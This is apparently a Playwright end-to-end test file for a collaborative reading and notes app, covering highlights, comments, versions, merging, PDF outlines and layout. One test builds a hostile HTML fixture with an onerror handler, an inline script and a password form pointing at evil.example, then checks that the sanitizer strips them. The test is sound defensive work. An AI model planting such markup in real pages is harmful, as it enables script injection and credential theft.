import { readFile } from 'node:fs/promises'
import type { Locator, Page } from '@playwright/test'
import { expectAccessible } from './accessibility.ts'
import { enter, expect, fixture, test } from './fixtures.ts'

async function select(page: Page, words: string, frame?: string): Promise<void> {
  await page.evaluate(
    ([wanted, selector]) => {
      const host = selector ? document.querySelector<HTMLIFrameElement>(selector)?.contentDocument : document
      if (!host) throw new Error('no frame')
      const walker = host.createTreeWalker(host.body, NodeFilter.SHOW_TEXT)
      while (walker.nextNode()) {
        const text = walker.currentNode as Text
        const at = text.data.indexOf(wanted ?? '')
        if (at === -1 || !text.parentElement?.closest('article, .pdf-text, main')) continue
        host.getSelection()?.setBaseAndExtent(text, at, text, at + (wanted ?? '').length)
        return
      }
      throw new Error(`not drawn: ${wanted}`)
    },
    [words, frame],
  )
}

test('a selection is highlighted and discussed in a thread, which is resolved', async ({
  browser,
  page,
  signedIn,
  another,
  library,
}) => {
  test.slow()
  const { data: note } = await signedIn.client
    .rpc('add_note', { library, title: 'Lamps', body: 'A steady lamp needs a steady keeper.\n\nThe sea is dark.' })
    .throwOnError()
  const { data: invitation } = await signedIn.client
    .rpc('invite_member', { library, email: another.email, role: 'reader' })
    .throwOnError()
  await another.client.rpc('accept_invitation', { invitation: (invitation as { id: string }).id }).throwOnError()
  await page.goto(`/l/${library}/d/${note.id}`)
  await page.getByText('The sea is dark.').waitFor()
  await select(page, 'The sea is dark.')
  const selection = page.getByRole('toolbar', { name: 'The selected words' })
  const highlights = page.getByRole('region', { name: 'Highlights' })
  await selection.getByRole('button', { name: 'Highlight: Yellow' }).click()
  await expect(highlights.getByText('Yellow · Ada Lovelace')).toBeVisible()
  await select(page, 'steady lamp')
  await selection.getByRole('button', { name: 'Highlight: Blue' }).click()
  await expect(highlights.getByRole('listitem')).toHaveText([/steady lamp.*Blue/, /The sea is dark.*Yellow/])
  await highlights.getByRole('button', { name: 'Only Blue' }).click()
  await expect(highlights.getByRole('listitem')).toHaveCount(1)
  const download = page.waitForEvent('download')
  await highlights.getByRole('button', { name: 'Save the highlights as Markdown' }).click()
  const saved = await readFile(await (await download).path(), 'utf8')
  expect(saved).toMatch(
    /^# Highlights in “Lamps”\n\n> steady lamp\n\n— Blue, Ada Lovelace, .*\?comment=[0-9a-f-]{36}\)\n$/,
  )

  await select(page, 'steady keeper')
  await selection.getByRole('button', { name: 'Comment' }).click()
  const field = page.getByLabel('Comment on the passage')
  await field.fill('Who is meant, @Mar')
  await page.getByRole('option', { name: 'Mary Somerville' }).waitFor()
  await page.keyboard.press('Enter')
  await expect(field).toHaveValue('Who is meant, @Mary Somerville ')
  await page.keyboard.press('Control+Enter')
  const comments = page.getByRole('region', { name: 'Comments' })
  await expect(comments.locator('strong', { hasText: '@Mary Somerville' })).toBeVisible()
  const { data: mentions } = await another.client.from('notifications').select('document_id, kind').throwOnError()
  expect(mentions).toEqual([{ document_id: note.id, kind: 'mention' }])

  // The mentioned member, a reader, replies.
  const context = await browser.newContext()
  const tab = await context.newPage()
  await enter(tab, another)
  await tab.goto(`/l/${library}/d/${note.id}`)
  await tab.getByRole('button', { name: 'Reply' }).last().click()
  await tab.getByLabel('Your reply').fill('The one who never sleeps.')
  await tab.getByRole('button', { name: 'Reply', exact: true }).last().click()
  await expect(comments.getByText('The one who never sleeps.')).toBeVisible()
  await expect(tab.getByRole('button', { name: 'Edit' })).toHaveCount(0)
  await context.close()

  await comments.getByRole('button', { name: 'steady keeper' }).click()
  await expect(page).toHaveURL(/comment=/)
  await expectAccessible(page, 'comments')
  await comments.getByRole('button', { name: 'Resolve' }).click()
  await page.goto(`/l/${library}/d/${note.id}`)
  await expect(comments.getByRole('button', { name: '1 resolved' })).toBeVisible()
  await expect(comments.getByText('The one who never sleeps.')).toBeHidden()
})

test('a note is edited in place, auto-saved, saved as a version, compared and restored', async ({
  page,
  signedIn,
  library,
}) => {
  test.slow()
  const { data: note } = await signedIn.client
    .rpc('add_note', { library, title: 'Lamps', body: 'The lamp burns.' })
    .throwOnError()
  await page.goto(`/l/${library}/d/${note.id}`)
  await page.getByRole('button', { name: 'Edit' }).click()
  const editor = page.getByRole('textbox', { name: 'Text of Lamps' })
  await editor.press('Control+End')
  await editor.pressSequentially(' Brightly.')
  await expect(page.getByText('Draft saved')).toBeVisible()
  // Closing the page while editing doesn't lose the text.
  await page.reload()
  await page.getByText('Unpublished draft').waitFor()
  await page.getByRole('button', { name: 'Continue writing' }).click()
  await expect(editor).toContainText('The lamp burns. Brightly.')
  await expectAccessible(page, 'editor')
  await page.getByRole('button', { name: 'Done' }).click()
  await expect(page.locator('.prose')).toHaveText('The lamp burns. Brightly.')

  await page.getByRole('button', { name: '2 versions' }).click()
  const dialog = page.getByRole('dialog', { name: 'Versions' })
  await dialog.getByRole('button', { name: /^Version 1/ }).click()
  await expect(dialog.getByRole('region', { name: 'Version 1 and the latest' })).toContainText('Brightly')
  await expectAccessible(page, 'versions')
  await dialog.getByRole('button', { name: 'Restore version 1' }).click()
  await expect(page.locator('.prose')).toHaveText('The lamp burns.')
  await expect(page.getByRole('button', { name: '3 versions' })).toBeVisible()
})

test('a note is written with menus and Markdown, its boxes are ticked, and it stays Markdown', async ({
  page,
  signedIn,
  library,
}) => {
  test.slow()
  const body = 'Lamps\n=====\n\n* [ ] trim\n* [x] light\n'
  const { data: note } = await signedIn.client.rpc('add_note', { library, title: 'Tasks', body }).throwOnError()
  const bodyOf = async (version: number) => {
    const { data } = await signedIn.client
      .from('versions')
      .select('body')
      .match({ document_id: note.id, number: version })
    return data?.[0]?.body
  }
  const { data: wicks } = await signedIn.client
    .rpc('add_note', { library, title: 'Wicks', body: `[old title](/l/${library}/d/${note.id})` })
    .throwOnError()
  await page.goto(`/l/${library}/d/${note.id}`)
  await page.getByRole('checkbox', { name: 'Done' }).first().click()
  await expect.poll(() => bodyOf(2)).toBe(body.replace('[ ]', '[x]'))
  await expectAccessible(page, 'check boxes')

  await page.getByRole('button', { name: 'Edit' }).click()
  const editor = page.getByRole('textbox', { name: 'Text of Tasks' })
  await editor.getByRole('heading', { name: 'Lamps' }).click()
  await editor.press('End')
  await editor.press('Enter')
  await editor.pressSequentially('## Oil')
  await editor.press('Enter')
  await editor.pressSequentially('For @ada')
  await page.getByRole('option', { name: 'Ada Lovelace' }).waitFor()
  await editor.press('Enter')
  await editor.pressSequentially('see [[tas')
  await page.getByRole('option', { name: 'Tasks', exact: true }).click()
  await editor.press('Enter')
  await editor.pressSequentially('/tab')
  await editor.press('Enter')
  await editor.pressSequentially('Wick')
  await editor.press('Tab')
  await editor.pressSequentially('**Oil** ')
  await page.getByRole('button', { name: 'Delete this row' }).waitFor()
  await editor.press('Control+Enter')
  await expect
    .poll(() => bodyOf(3))
    .toBe(
      `Lamps\n=====\n\n## Oil\n\nFor @[Ada Lovelace](${signedIn.id}) see [Tasks](/l/${library}/d/${note.id})\n\n` +
        `| Wick | **Oil** | |\n| - | - | - |\n| | | |\n| | | |\n\n${body.slice(13).replace('[ ]', '[x]')}`,
    )
  await expect(page.locator('.mention')).toHaveText('@Ada Lovelace')
  await page.getByRole('region', { name: 'Linked from' }).getByRole('link', { name: wicks.title }).click()
  await page.getByRole('article').getByRole('link', { name: 'Tasks Note' }).click()
  await expect(page.getByRole('heading', { name: 'Lamps' })).toBeVisible()

  await page.getByRole('button', { name: 'Edit' }).click()
  await editor.getByText('Lamps').click()
  await editor.evaluate(async (element) => {
    const canvas = new OffscreenCanvas(40, 30)
    canvas.getContext('2d')
    const picture = await canvas.convertToBlob()
    const clipboardData = new DataTransfer()
    clipboardData.items.add(new File([picture], 'green-lamp.png', { type: 'image/png' }))
    element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
  })
  const picture = page.getByRole('img', { name: 'green lamp' })
  const drawnWidth = () => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)
  await expect.poll(drawnWidth).toBe(40)
  await page.getByRole('button', { name: 'Done', exact: true }).click()
  await expect(editor).toHaveCount(0)
  await expect.poll(drawnWidth).toBe(40)
})

test('concurrent edits in different places are merged, and the user resolves conflicts', async ({
  page,
  signedIn,
  library,
}) => {
  test.slow()
  const body = 'The lamp burns.\n\nThe sea is dark.\n\nThe end.'
  const { data: note } = await signedIn.client.rpc('add_note', { library, title: 'Lamps', body }).throwOnError()
  await page.goto(`/l/${library}/d/${note.id}`)
  await page.getByRole('button', { name: 'Edit' }).click()
  const editor = page.getByRole('textbox', { name: 'Text of Lamps' })
  await editor.press('Control+End')
  await editor.pressSequentially(' Really.')
  const saveElsewhere = async (text: string) => {
    const { data } = await signedIn.client
      .from('documents')
      .select('current_version_id')
      .eq('id', note.id)
      .single()
      .throwOnError()
    await signedIn.client
      .rpc('save_note', { document: note.id, body: text, based_on: data.current_version_id ?? '' })
      .throwOnError()
  }
  await saveElsewhere(body.replace('The lamp burns', 'The lamp shines'))
  await editor.press('Control+s')
  await expect(editor).toContainText('The lamp shines.')
  await expect(editor).toContainText('The end. Really.')
  await expect(page.getByText('Saved', { exact: true })).toBeVisible()

  // Offline, because online texts are merged before they can clash.
  await page.context().setOffline(true)
  await editor.press('Control+End')
  await editor.pressSequentially(' Truly.')
  await saveElsewhere('The lamp shines.\n\nThe sea is dark.\n\nThe end. Really. Not yet.')
  await page.context().setOffline(false)
  await expect(page.getByRole('heading', { name: 'Someone else changed the same text' })).toBeVisible()
  await page.getByRole('button', { name: 'Save mine as the latest' }).click()
  await expect(page.getByText('Saved', { exact: true })).toBeVisible()
  await page.getByRole('button', { name: 'Done' }).click()
  await expect(page.locator('.prose')).toContainText('The end. Really. Truly.')
  const { count } = await signedIn.client
    .from('versions')
    .select('*', { count: 'exact', head: true })
    .eq('document_id', note.id)
    .throwOnError()
  expect(count).toBe(5)
})

test('a passage is copied with its source, or as a link to it', async ({ page, context, signedIn, library }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const body = `${'The sea is calm.\n\n'.repeat(60)}A bell (of bronze) is rung.\n\n${'It is dark.\n\n'.repeat(60)}`
  const { data: note } = await signedIn.client.rpc('add_note', { library, title: 'The coast', body }).throwOnError()
  await page.goto(`/l/${library}/d/${note.id}`)
  const copied = () => page.evaluate(() => navigator.clipboard.readText())
  await page.getByText('A bell (of bronze) is rung').scrollIntoViewIfNeeded()
  await select(page, 'A bell (of bronze) is rung')
  await page.getByRole('button', { name: 'Quote' }).click()
  await page.getByRole('menuitem', { name: 'Copy with source' }).click()
  await expect.poll(copied).toBe('“A bell (of bronze) is rung” — The coast')
  await select(page, 'A bell (of bronze) is rung')
  await page.getByRole('button', { name: 'Quote' }).click()
  await page.getByRole('menuitem', { name: 'Copy the link to this passage' }).click()
  await expect.poll(copied).toContain(`/l/${library}/d/${note.id}?quote=`)
  await page.goto(await copied())
  await expect(page.getByText('A bell (of bronze) is rung')).toBeInViewport()
})

/** Three empty pages with an outline of two levels. It has no cross-reference table; pdf.js finds the objects anyway. */
const OUTLINED = `%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>> endobj
2 0 obj <</Type/Pages/Count 3/Kids[3 0 R 4 0 R 5 0 R]>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Annots[10 0 R 11 0 R 12 0 R]>> endobj
${[4, 5].map((id) => `${id} 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]>> endobj`).join('\n')}
6 0 obj <</Type/Outlines/First 7 0 R/Last 9 0 R/Count 2>> endobj
7 0 obj <</Title(Lamps)/Parent 6 0 R/Next 9 0 R/First 8 0 R/Last 8 0 R/Count 1/Dest[3 0 R/Fit]>> endobj
8 0 obj <</Title(Oil)/Parent 7 0 R/Dest[4 0 R/XYZ 0 200 0]>> endobj
9 0 obj <</Title(Fog)/Parent 6 0 R/Prev 7 0 R/Dest[5 0 R/Fit]>> endobj
10 0 obj <</Type/Annot/Subtype/Link/Rect[20 300 90 320]/Dest[5 0 R/Fit]>> endobj
11 0 obj <</Type/Annot/Subtype/Link/Rect[20 260 90 280]/A<</S/URI/URI(https://example.org/lamps)>>>> endobj
12 0 obj <</Type/Annot/Subtype/Text/Rect[200 300 220 320]/T(Ada)/Contents(Ask the keeper)>> endobj
trailer <</Root 1 0 R>>
%%EOF`

test('tables of contents of PDFs and notes link to their places, and text is quoted into a note', {
  tag: '@nightly',
}, async ({ page, signedIn, library }) => {
  test.slow()
  const { client } = signedIn
  const document = crypto.randomUUID()
  const path = `${library}/${document}/${crypto.randomUUID()}/lamps.pdf`
  await client.storage.from('documents').upload(path, Buffer.from(OUTLINED), { contentType: 'application/pdf' })
  await client.rpc('add_file', { library, document, path, file_name: 'lamps.pdf' }).throwOnError()
  await page.goto(`/l/${library}/d/${document}`)
  await page.getByRole('button', { name: 'Contents' }).click()
  const tree = page.getByRole('tree', { name: 'Contents' })
  await expect(tree.getByRole('treeitem')).toHaveText(['Lamps', 'Oil', 'Fog'])
  await tree.getByRole('treeitem', { name: 'Lamps' }).press('ArrowDown')
  await tree.getByRole('treeitem', { name: 'Oil' }).press('Enter')
  await expect(tree.getByRole('treeitem', { name: 'Oil' })).toHaveAttribute('aria-current', 'location')
  await expect(page.getByLabel('Page', { exact: true })).toHaveValue('2')
  await tree.getByRole('treeitem', { name: 'Lamps' }).click()
  const sheet = page.getByRole('region', { name: 'The document' })
  await expect(sheet.getByRole('link', { name: 'https://example.org/lamps' })).toHaveAttribute('rel', 'noreferrer')
  await sheet.getByLabel('Note by Ada').click()
  await expect(sheet.getByText('Ask the keeper')).toBeVisible()
  await expectAccessible(page, 'links and notes of a PDF')
  await sheet.getByRole('button', { name: 'Go to the linked place' }).click()
  await expect(page.getByLabel('Page', { exact: true })).toHaveValue('3')
  await tree.getByRole('treeitem', { name: 'Oil' }).click()
  await tree.getByRole('treeitem', { name: 'Oil' }).press('ArrowLeft')
  await page.keyboard.press('ArrowLeft')
  await expect(tree.getByRole('treeitem')).toHaveText(['Lamps', 'Fog'])
  await expectAccessible(page, 'contents')

  const body = `# Lamps\n\n${'Oil burns.\n\n'.repeat(40)}## Fog\n\nA bell (of *bronze*) is rung.\n\n${'It is dark.\n\n'.repeat(40)}`
  const { data: note } = await client.rpc('add_note', { library, title: 'The coast', body }).throwOnError()
  await page.setViewportSize({ width: 390, height: 844 })
  await page.goto(`/l/${library}/d/${note.id}`)
  await page.getByRole('button', { name: 'Contents' }).click()
  await page.getByRole('dialog', { name: 'Contents' }).getByRole('treeitem', { name: 'Fog' }).click()
  await expect(page.getByRole('heading', { name: 'Fog' })).toBeInViewport()
  await select(page, 'is rung')
  await page.getByRole('button', { name: 'Quote' }).click()
  await page.getByRole('menuitem', { name: 'A new note' }).click()
  await page.getByRole('button', { name: 'Open' }).click()
  await expect(page.getByRole('heading', { name: 'Quotes from The coast' })).toBeVisible()
  await expect(page.locator('.prose blockquote')).toHaveText(/is rung\s+— The coast/)
  await page.goto((await page.locator('.prose blockquote a').getAttribute('href')) ?? '')
  await expect(page.getByText('is rung')).toBeInViewport()
})

test('a hostile page is shown in a frame without scripts, and can be commented on', async ({
  page,
  library,
  stopped,
}) => {
  test.slow()
  expect(library).toBeTruthy()
  const hostile = `<html><body><h1>Cards</h1>${'<p>The card is put back into the drawer by its keeper.</p>'.repeat(8)}
    <img src="https://evil.example/pixel.png" onerror="top.stolen = 1"><script>top.stolen = 1</script>
    <form action="https://evil.example/"><input name="password"></form><a href="javascript:top.stolen=1">x</a></body></html>`
  const foreign: string[] = []
  page.on('request', (request) => request.url().includes('evil.example') && foreign.push(request.url()))
  await page
    .getByLabel('Files to add')
    .setInputFiles({ name: 'cards.html', mimeType: 'text/html', buffer: Buffer.from(hostile) })
  const card = page.getByRole('article', { name: 'Cards' })
  await expect(card.getByText(/Reading|Indexing|Waiting/)).toHaveCount(0, { timeout: 120_000 })
  await card.getByRole('link').first().click()
  const frame = page.frameLocator('iframe[title="Cards"]')
  await expect(frame.getByText('The card is put back').first()).toBeVisible()
  await expect(frame.locator('form, script, input, img[src]')).toHaveCount(0)
  await select(page, 'put back into the drawer', 'iframe')
  await page.getByRole('button', { name: 'Highlight: Pink' }).click()
  await expect(page.getByRole('region', { name: 'Highlights' }).getByText('Pink')).toBeVisible()
  await expectAccessible(page, 'snapshot')
  expect(foreign).toEqual([])
  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false)
  // Chromium also reports the event handlers of a document that is parsed for sanitizing and never shown.
  expect(stopped.splice(0).filter((message) => !message.includes('inline event handler'))).toEqual([])
})

test('a member follows another reader through a document', async ({ browser, page, signedIn, another, library }) => {
  test.slow()
  const { data: invitation } = await signedIn.client
    .rpc('invite_member', { library, email: another.email, role: 'reader' })
    .throwOnError()
  await another.client.rpc('accept_invitation', { invitation: (invitation as { id: string }).id }).throwOnError()
  const document = crypto.randomUUID()
  const path = `${library}/${document}/${crypto.randomUUID()}/room.pdf`
  await signedIn.client.storage
    .from('documents')
    .upload(path, await readFile(fixture('reading-room.pdf')), { contentType: 'application/pdf' })
  await signedIn.client.rpc('add_file', { library, document, path, file_name: 'room.pdf' }).throwOnError()
  await page.goto(`/l/${library}/d/${document}`)
  const context = await browser.newContext()
  const tab = await context.newPage()
  await enter(tab, another)
  await tab.goto(`/l/${library}/d/${document}`)
  await tab.getByRole('button', { name: 'Follow Ada Lovelace' }).click({ timeout: 120_000 })
  await page.getByLabel('Page', { exact: true }).fill('7')
  await page.keyboard.press('Enter')
  await expect(tab.getByLabel('Page', { exact: true })).toHaveValue('7', { timeout: 120_000 })
  await context.close()
})

test('a very long word is wrapped, not cut off', { tag: '@nightly' }, async ({ page, signedIn, library }) => {
  const word = 'w'.repeat(200)
  const { data: note } = await signedIn.client
    .rpc('add_note', { library, title: word, body: `A ${word} lamp.` })
    .throwOnError()
  await signedIn.client
    .from('collections')
    .insert({ library_id: library, name: word.slice(0, 60) })
    .throwOnError()
  await signedIn.client
    .from('comments')
    .insert({ library_id: library, document_id: note.id, body: word })
    .throwOnError()
  const email = `${'a'.repeat(50)}@example.org`
  await signedIn.client.rpc('invite_member', { library, email, role: 'reader' }).throwOnError()
  const comment = page.getByRole('region', { name: 'Comments' }).getByText(word)
  const link = page.getByRole('navigation', { name: 'Library' }).getByRole('link', { name: /^w+$/ })
  const rightOf = (one: Locator) => one.evaluate((element) => element.getBoundingClientRect().right)
  const expectNothingToTheSide = () =>
    expect.poll(() => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)

  await page.goto(`/l/${library}/d/${note.id}`)
  await comment.waitFor()
  await link.waitFor()
  expect(await rightOf(comment)).toBeLessThanOrEqual(await rightOf(page.getByRole('main')))
  expect(await rightOf(link)).toBeLessThanOrEqual(
    await rightOf(page.getByRole('complementary', { name: 'This library' })),
  )
  await page.setViewportSize({ width: 390, height: 844 })
  await expectNothingToTheSide()

  await signedIn.client.functions.invoke('ingest', { body: { document_id: note.id } })
  await page.goto(`/l/${library}/ask`)
  await page.getByLabel('Your question').fill('Which lamp?')
  await page.getByRole('button', { name: 'Ask', exact: true }).click()
  await expect(page.getByRole('article', { name: 'Which lamp?' })).toContainText(word, { timeout: 120_000 })
  await expectNothingToTheSide()
  await page.goto(`/l/${library}/members`)
  await page.getByText(email).waitFor()
  await expectNothingToTheSide()
})

test('a document is printed without the app, and small or high-contrast screens stay usable', {
  tag: '@nightly',
}, async ({ page, signedIn, library }) => {
  const { data: note } = await signedIn.client
    .rpc('add_note', { library, title: 'Lamps at sea', body: 'Whale oil.' })
    .throwOnError()
  await page.goto(`/l/${library}/d/${note.id}`)
  await expect(page.getByText('Whale oil.')).toBeVisible()
  await page.emulateMedia({ media: 'print' })
  await expect(page.getByRole('heading', { name: 'Lamps at sea' })).toBeVisible()
  await expect(page.getByText('Whale oil.')).toBeVisible()
  for (const role of ['navigation', 'complementary', 'textbox'] as const)
    await expect(page.getByRole(role)).toHaveCount(0)
  await expect(page.getByRole('button', { name: 'Edit', exact: true })).toHaveCount(0)

  await page.emulateMedia({ media: 'screen', forcedColors: 'active' })
  const current = page.getByRole('link', { name: 'Members', exact: true })
  await current.click()
  await expect(current).toHaveCSS('outline-style', 'solid')
  await expect(page.getByRole('button', { name: 'Invite' })).toHaveCSS('border-style', 'solid')

  // Zoomed to 400 %, where a bar at the bottom would cover the screen.
  await page.setViewportSize({ width: 320, height: 256 })
  await page.goto(`/l/${library}/ask`)
  await page.getByRole('heading', { name: 'Ask', exact: true }).scrollIntoViewIfNeeded()
  await expect(page.getByLabel('Your question')).not.toBeInViewport()
  await page.goto(`/l/${library}?view=list`)
  await expect(page.getByRole('link', { name: 'Lamps at sea' })).toBeVisible()
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320)
})
